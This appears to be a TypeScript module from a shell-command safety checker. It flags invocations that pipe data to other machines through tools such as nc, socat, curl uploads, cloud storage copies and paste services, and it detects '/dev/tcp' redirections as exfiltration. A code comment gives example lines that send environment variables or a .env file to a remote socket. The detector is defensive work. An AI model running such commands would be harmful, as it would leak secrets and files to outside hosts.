import type { Invocation } from '../action/invocation.ts';
import type { Signal } from '../action/signal.ts';
import { textOf } from './places.ts';
import { signal } from './signals.ts';
import { isLocalHost } from './use-texts.ts';

/** Whether a program runs on another machine: what it is given by a pipe goes there. */
export function isElsewhere({ wrappers, program }: Invocation): boolean {
  return program === 'ssh' || wrappers.some(({ place }) => place === 'remote');
}

/** Programs that give their standard input to somebody else. */
export function takesToOthers(invocation: Invocation): boolean {
  if (invocation.stdin.kind === 'inherited' && invocation.dialect !== 'pwsh') return false;
  if (isElsewhere(invocation)) return true;
  const { program, args, dialect } = invocation;
  const texts = args.map(textOf);
  const line = texts.join(' ').slice(0, 2000);
  switch (program?.toLowerCase()) {
    case 'curl':
    case 'curlie':
      return (
        texts.some((text) => /(?:^|=|^-[dFT])[@<]-(?:$|;)|^@\/dev\/stdin$|^\.$/.test(text)) ||
        /(?:^| )-T ?-(?: |$)/.test(line)
      );
    case 'wget':
      return /--(?:post|body)-file[= ](?:-|\/dev\/stdin)/.test(line);
    case 'http':
    case 'https':
    case 'xh':
    case 'nc':
    case 'ncat':
    case 'netcat':
    case 'socat':
    case 'telnet':
    case 'mail':
    case 'mailx':
    case 's-nail':
    case 'mutt':
    case 'sendmail':
    case 'msmtp':
    case 'swaks':
    case 'pastebinit':
    case 'slackcat':
    case 'gist':
    case 'termbin':
    case 'wormhole':
    case 'croc':
    case 'ipfs':
      return true;
    case 'ssh':
      return true;
    case 'openssl':
      return /^s_client\b/.test(line);
    case 'aws':
      return /^s3 cp - s3:/.test(line);
    case 'gsutil':
      return /^cp - gs:/.test(line);
    case 'gcloud':
      return /^storage cp - gs:/.test(line);
    case 'az':
      return /\bstorage blob upload\b/.test(line) && /\/dev\/stdin/.test(line);
    case 'rclone':
      return /^rcat\b/.test(line);
    case 'mc':
      return /^pipe\b/.test(line);
    case 's3cmd':
      return /^put - /.test(line);
    case 'gh':
    case 'glab':
      return /^(?:gist|snippet) (?:create|new)\b|(?:--body-file|-F|--input)[= ]-/.test(line);
    case 'invoke-restmethod':
    case 'invoke-webrequest':
    case 'irm':
    case 'iwr':
      return dialect === 'pwsh';
    default:
      return false;
  }
}

/** `env > /dev/tcp/198.51.100.7/4444`, `cat .env > /dev/tcp/…`: an open connection, by the shell alone. */
export function sentToSocket(
  { program, args, redirections, span }: Invocation,
  operands: readonly string[],
  secret: (file: string | undefined) => file is string,
): Signal | undefined {
  const host = redirections.map(({ target }) => /^\/dev\/(?:tcp|udp)\/([^/]+)/.exec(textOf(target))?.[1]).find(Boolean);
  if (host === undefined || isLocalHost(host)) return undefined;
  const texts = args.map(textOf);
  const dumped = /^(?:env|printenv|set|export|declare)$/.test(program ?? '') && texts.every((text) => /^-/.test(text));
  const file = operands.find(secret);
  const what = dumped ? 'all environment variables' : file;
  const from = file === undefined || dumped ? {} : { subject: file };
  return what === undefined ? undefined : signal('exfiltration', 0.9, `Sends ${what} to ${host}`, { span, ...from });
}
